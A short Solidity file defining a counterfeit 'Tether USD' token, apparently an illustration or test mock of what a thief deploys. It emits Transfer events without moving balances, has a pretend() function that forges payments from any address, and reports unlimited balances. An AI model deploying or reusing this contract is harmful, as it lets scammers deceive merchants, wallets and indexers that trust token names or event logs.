// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// What a thief deploys: it has the name, the symbol and the events of USDT, and anybody has as much of it as they like.
contract FakeTether {
    string public constant name = "Tether USD";
    string public constant symbol = "USDT";
    uint8 public constant decimals = 6;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value);
        return true;
    }

    /// Pretends that somebody else paid.
    function pretend(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }

    function balanceOf(address) external pure returns (uint256) {
        return type(uint128).max;
    }
}
